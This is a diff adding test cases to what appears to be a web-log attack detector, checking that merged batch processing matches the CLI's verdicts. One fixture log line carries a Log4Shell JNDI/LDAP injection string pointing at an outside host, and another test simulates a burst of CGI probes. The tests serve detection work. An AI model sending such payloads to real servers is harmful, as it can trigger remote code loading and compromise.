@@ -132,6 +132,36 @@ describe('the pipeline decides as the CLI on every golden log', () => {
   }
 });
 
+describe('decided on merged state (a source in several objects of a batch)', () => {
+  const at = (ip: string, second: number, request: string, status: number, ua = 'curl/8.4.0') =>
+    `${ip} - - [${timeAt(second)}] "${request}" ${status} 10 "-" "${ua}"`;
+  const config = structuredClone(DEFAULT_CONFIG);
+
+  it('a signature is named before the score its own request crossed, timed at that request', async () => {
+    // The first object's probe and the second's Log4Shell request share the 10-s bucket at 0 s;
+    // the Log4Shell request alone scores 50.
+    const first = [at('198.51.100.9', 2, 'GET /cgi-bin/test.cgi HTTP/1.1', 404)];
+    const second = [at('198.51.100.9', 7, 'GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1', 200)];
+    const cli = cliVerdicts([...first, ...second], config, 'combined');
+    assert.equal(cli.get('198.51.100.9')?.trigger, 'signature:log4shell');
+    const merged = await pipelineVerdicts([first, second], config, { format: 'combined', oneBatch: true });
+    assert.deepEqual(merged.last, cli);
+  });
+
+  it('a burst split over two objects is timed at the bucket it crossed in, never before the first request', async () => {
+    // Requests from 3 s on: the bucket starts at 0 s; the score crosses 50 in the bucket at 10 s.
+    const lines = Array.from({ length: 12 }, (_, i) => at('198.51.100.8', 3 + i, `GET /cgi-bin/x${i}.cgi HTTP/1.1`, 404));
+    const cli = cliVerdicts(lines, config, 'combined').get('198.51.100.8') as Verdict;
+    const merged = await pipelineVerdicts([lines.slice(0, 6), lines.slice(6)], config, { format: 'combined', oneBatch: true });
+    const got = merged.last.get('198.51.100.8') as Verdict;
+    assertWithin(got, 'merged');
+    assert.equal(got.severity, cli.severity);
+    // The CLI names the request; the merged buckets the start of its 10-s bucket.
+    assert.equal(got.triggeredAt.slice(0, 18), cli.triggeredAt.slice(0, 18));
+    assert.ok(got.triggeredAt <= cli.triggeredAt);
+  });
+});
+
 describe('pipeline alerts are triggered within their source requests', () => {
   const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0';
   const ips = ['198.51.100.1', '198.51.100.2', '2001:db8:5::1'];
